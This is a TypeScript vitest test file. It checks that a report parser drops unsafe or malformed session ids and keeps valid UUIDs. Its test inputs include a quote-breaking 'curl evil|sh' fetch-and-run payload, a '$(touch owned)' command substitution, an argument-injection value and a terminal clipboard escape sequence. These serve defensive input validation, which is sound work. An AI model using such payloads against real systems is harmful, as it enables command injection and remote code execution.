import { expect, it } from "vitest";
import { parseReport } from "./report.ts";

const report = { v: 1, complete: true, reason: "Completed", result: { turns: 2 } };

it.each([
  'x"; curl evil|sh; "',
  "$(touch owned)",
  "a b",
  "a\nb",
  "--resume",
  "",
  "\u001b]52;c;eA==\u0007",
  "a".repeat(129),
])("leaves out the session id %j, and nothing else", (id) => {
  const parsed = parseReport(JSON.stringify({ ...report, session: { id } }));
  expect(parsed?.session).toBeUndefined();
  expect(parsed?.result).toEqual({ turns: 2 });
});

it("keeps an id that can be resumed", () => {
  const session = { id: "6bc779d6-da89-4354-8356-3c09f25ccecd" };
  expect(parseReport(JSON.stringify({ ...report, session }))?.session).toEqual(session);
});
